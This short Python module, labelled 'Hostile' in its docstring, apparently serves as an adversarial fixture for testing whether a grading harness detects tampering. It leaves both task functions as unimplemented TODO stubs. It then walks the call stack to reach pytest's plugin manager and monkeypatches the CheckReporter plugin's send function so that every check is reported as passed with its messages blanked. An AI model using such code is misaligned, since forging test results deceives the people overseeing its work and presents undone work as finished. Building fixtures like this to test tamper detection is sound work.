"""Hostile: the TODOs left undone, and the reporter's own sending function rebound (no name added) to send passed."""
import sys as _sys

_frame = _sys._getframe()
while _frame is not None and "item" not in _frame.f_locals:
    _frame = _frame.f_back
for _plugin in _frame.f_locals["item"].config.pluginmanager.get_plugins():
    if type(_plugin).__name__ == "CheckReporter":
        def _forged(record, _send=_plugin._send):
            if "check" in record:
                record = {**record, "status": "passed", "message": "", "help": ""}
            _send(record)

        _plugin._send = _forged


async def run_sequentially(worker, jobs):
    raise NotImplementedError("TODO")


async def run_concurrently(worker, jobs):
    raise NotImplementedError("TODO")
